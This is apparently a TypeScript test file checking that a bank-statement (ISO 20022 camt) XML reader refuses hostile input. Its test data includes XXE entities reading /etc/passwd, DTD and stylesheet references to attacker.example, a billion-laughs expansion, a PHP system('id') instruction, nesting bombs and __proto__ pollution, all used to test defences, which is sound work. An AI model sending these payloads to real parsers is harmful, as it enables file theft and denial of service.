/**
 * Hostile XML: statement files come from merchants, answers from a bank we do
 * not control. Each attack is refused with its reason, quickly, and nothing
 * ever throws.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readCamt } from "../../../src/bank/iso20022/camt.ts";
import { parseIso20022Document } from "../../../src/bank/iso20022/xml-document.ts";
import { DEFAULT_MAX_XML_BYTES, MAX_XML_DEPTH, MAX_XML_ELEMENTS, scanXml } from "../../../src/bank/iso20022/xml-safety.ts";
import { buildCamt } from "./support/camt-builder.ts";

/** Generous for two shared cores; the point is "not seconds, no stack overflow". */
const QUICK_MS = 1000;

const VALID = buildCamt({
  family: "camt.053",
  version: "001.08",
  messageId: "M",
  createdAt: "2026-11-24T06:00:00Z",
  reports: [{ id: "R", entries: [{ amount: "1.00", direction: "DBIT", status: "BOOK", transactions: [{ endToEndId: "E" }] }] }],
});
const BODY = VALID.replace(/^<\?xml[^>]*\?>\n/, "");
const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';

function refusalOf(input: string | Uint8Array, maxBytes?: number): string {
  const started = performance.now();
  const reading = readCamt(input, maxBytes === undefined ? {} : { maxBytes });
  expect(performance.now() - started).toBeLessThan(QUICK_MS);
  return reading.kind === "refused" ? reading.refusal.reason : reading.kind;
}

describe("hostile XML is refused with its reason", () => {
  it("the unaltered document is read (so the refusals below come from the attack)", () => {
    expect(refusalOf(VALID)).toBe("camt");
    expect(refusalOf(BODY)).toBe("camt");
  });

  it("DTDs", () => {
    expect(refusalOf(`${DECLARATION}<!DOCTYPE Document [<!ELEMENT Document ANY>]>\n${BODY}`)).toBe("dtd");
    expect(refusalOf(`${DECLARATION}<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">\n${BODY}`)).toBe("dtd");
    expect(refusalOf(`<!doctype Document>\n${BODY}`)).toBe("dtd");
  });

  it("external and internal entities, declared or not", () => {
    const external = `${DECLARATION}<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${BODY.replace("<MsgId>M</MsgId>", "<MsgId>&xxe;</MsgId>")}`;
    expect(refusalOf(external)).toBe("entity");
    const parameter = `${DECLARATION}<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>\n${BODY}`;
    expect(refusalOf(parameter)).toBe("entity");
    const laughs = [
      '<!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? "" : level};`.repeat(10)}">`),
    ].join("");
    expect(refusalOf(`${DECLARATION}<!DOCTYPE Document [${laughs}]>\n${BODY.replace("<MsgId>M</MsgId>", "<MsgId>&lol9;</MsgId>")}`)).toBe(
      "entity",
    );
    expect(refusalOf(BODY.replace("<MsgId>M</MsgId>", "<MsgId>&xxe;</MsgId>"))).toBe("entity");
  });

  it("processing instructions other than the leading XML declaration", () => {
    expect(refusalOf(`${DECLARATION}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n${BODY}`)).toBe(
      "processing-instruction",
    );
    expect(refusalOf(BODY.replace("<GrpHdr>", "<GrpHdr><?php system('id'); ?>"))).toBe("processing-instruction");
    expect(refusalOf(`\n${DECLARATION}${BODY}`)).toBe("processing-instruction");
    expect(refusalOf(`${BODY}<?trailer?>`)).toBe("processing-instruction");
  });

  it("10,000 and 1,000,000 levels of nesting, without overflowing the stack", () => {
    expect(refusalOf(`${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`)).toBe("too-deep");
    expect(refusalOf(`${"<a>".repeat(1_000_000)}`)).toBe("too-deep");
    const deepInside = BODY.replace("<MsgId>M</MsgId>", `<MsgId>M</MsgId>${"<X>".repeat(10_000)}${"</X>".repeat(10_000)}`);
    expect(refusalOf(deepInside)).toBe("too-deep");
  });

  it("the depth limit is exact", () => {
    const nested = (depth: number) => `${"<a>".repeat(depth)}${"</a>".repeat(depth)}`;
    expect(parseIso20022Document(nested(MAX_XML_DEPTH))).toMatchObject({ ok: false, refusal: { reason: "unsupported-document" } });
    expect(parseIso20022Document(nested(MAX_XML_DEPTH + 1))).toMatchObject({ ok: false, refusal: { reason: "too-deep" } });
  });

  it("more elements than any real statement has, however small", () => {
    const flat = (count: number) =>
      `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">${"<a/>".repeat(count - 1)}</Document>`;
    expect(refusalOf(flat(MAX_XML_ELEMENTS + 1))).toBe("too-many-elements");
    // Linear: half a million text segments without an '&' must not each search to the end of the document.
    const started = performance.now();
    expect(scanXml(flat(MAX_XML_ELEMENTS))).toMatchObject({ ok: true });
    expect(performance.now() - started).toBeLessThan(5 * QUICK_MS);
  });

  it("5 MiB + 1 byte, as text or bytes, multi-byte characters counted as bytes; 5 MiB exactly is read", () => {
    const padTo = (bytes: number) => `${VALID}<!--${"x".repeat(bytes - VALID.length - 7)}-->`;
    const exact = padTo(DEFAULT_MAX_XML_BYTES);
    expect(new TextEncoder().encode(exact).byteLength).toBe(DEFAULT_MAX_XML_BYTES);
    expect(refusalOf(exact)).toBe("camt");
    const oneMore = padTo(DEFAULT_MAX_XML_BYTES + 1);
    expect(refusalOf(oneMore)).toBe("too-large");
    expect(refusalOf(new TextEncoder().encode(oneMore))).toBe("too-large");
    expect(refusalOf(new TextEncoder().encode(exact))).toBe("camt");
    // Fewer UTF-16 units than the limit, more UTF-8 bytes.
    const accented = `${VALID}<!--${"é".repeat(DEFAULT_MAX_XML_BYTES / 2)}-->`;
    expect(accented.length).toBeLessThan(DEFAULT_MAX_XML_BYTES);
    expect(refusalOf(accented)).toBe("too-large");
    // The limit is configurable.
    expect(refusalOf(VALID, VALID.length - 1)).toBe("too-large");
    expect(refusalOf(VALID, VALID.length)).toBe("camt");
  });

  it.each([
    ["an empty input", ""],
    ["only a declaration", DECLARATION],
    ["mismatched tags", BODY.replace("</MsgId>", "</MsgID>")],
    ["an unclosed element", BODY.replace("</Document>", "")],
    ["two roots", `${BODY}${BODY}`],
    ["text after the root", `${BODY}trailing`],
    ["a bare ampersand", BODY.replace("<MsgId>M</MsgId>", "<MsgId>A & B</MsgId>")],
    ["a '<' in an attribute", BODY.replace('Ccy="EUR"', 'Ccy="E<R"')],
    ["a duplicate attribute", BODY.replace('Ccy="EUR"', 'Ccy="EUR" Ccy="USD"')],
    ["an unquoted attribute", BODY.replace('Ccy="EUR"', "Ccy=EUR")],
    ["a control character", BODY.replace("<MsgId>M</MsgId>", "<MsgId>M\u0001</MsgId>")],
    ["a character reference to a control character", BODY.replace("<MsgId>M</MsgId>", "<MsgId>M&#1;</MsgId>")],
    ["an unterminated comment", `${BODY}<!-- open`],
    ["binary noise", "\u0089PNG\r\n\u001a\n"],
    ["an element named like a JavaScript built-in", BODY.replace("<MsgId>M</MsgId>", "<MsgId>M</MsgId><constructor>x</constructor>")],
    ["a __proto__ element", BODY.replace("<MsgId>M</MsgId>", "<MsgId>M</MsgId><__proto__><polluted>yes</polluted></__proto__>")],
  ])("not well-formed: %s", (_name, xml) => {
    expect(refusalOf(xml)).toBe("not-well-formed");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("bytes that are not UTF-8, and documents declaring another encoding", () => {
    const latin1 = new TextEncoder().encode(BODY.replace("<MsgId>M</MsgId>", "<MsgId>M__</MsgId>"));
    const at = latin1.indexOf(0x5f);
    latin1[at] = 0xe9;
    expect(refusalOf(latin1)).toBe("not-well-formed");
    expect(refusalOf(`<?xml version="1.0" encoding="ISO-8859-1"?>\n${BODY}`)).toBe("unsupported-encoding");
  });

  it("a document of another kind is not a camt document", () => {
    expect(refusalOf(`<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn/></Document>`)).toBe(
      "not-a-camt-document",
    );
    expect(refusalOf(`<?xml version="1.0"?><rss version="2.0"><channel/></rss>`)).toBe("not-a-camt-document");
  });
});

describe("what the safety scan lets through is read faithfully", () => {
  it("predefined and character references are resolved, CDATA and comments are read as text and ignored", () => {
    const xml = BODY.replace("<MsgId>M</MsgId>", "<MsgId>A&amp;B&#233;&#x4E;&lt;</MsgId>").replace(
      "<Id>R</Id>",
      "<Id><![CDATA[R<1>]]></Id><!-- a comment -->",
    );
    const reading = readCamt(xml);
    expect(reading).toMatchObject({ kind: "camt", document: { messageId: "A&BéN<", reports: [{ id: "R<1>" }] } });
  });

  it("a prefixed root gets its namespace from its own prefix", () => {
    const prefixed = BODY.replace(/<(\/?)([A-Za-z])/g, "<$1ns0:$2").replace('xmlns="', 'xmlns:ns0="');
    expect(parseIso20022Document(prefixed)).toMatchObject({ ok: true, messageType: { family: "camt.053", version: "001.08" } });
    const wrongPrefix = prefixed.replace('xmlns:ns0="', 'xmlns:other="');
    expect(parseIso20022Document(wrongPrefix)).toMatchObject({ ok: false, refusal: { reason: "unsupported-document" } });
  });

  it("never throws, whatever the input", () => {
    const fragments = [
      "<",
      ">",
      "</",
      "/>",
      "&",
      ";",
      "<!--",
      "-->",
      "<![CDATA[",
      "]]>",
      "<?",
      "?>",
      '"',
      "'",
      "=",
      " ",
      "Ntry",
      "Document",
      "\u0000",
      "😀",
    ];
    const mutated = fc
      .tuple(fc.nat(BODY.length), fc.nat(40), fc.array(fc.constantFrom(...fragments), { maxLength: 6 }))
      .map(([at, cut, inserted]) => {
        return BODY.slice(0, at) + inserted.join("") + BODY.slice(Math.min(BODY.length, at + cut));
      });
    fc.assert(
      fc.property(fc.oneof(mutated, fc.string({ unit: "binary", maxLength: 500 }), fc.uint8Array({ maxLength: 500 })), (input) => {
        const reading = readCamt(input);
        expect(["camt", "invalid", "refused"]).toContain(reading.kind);
      }),
      { numRuns: 1500 },
    );
  });
});
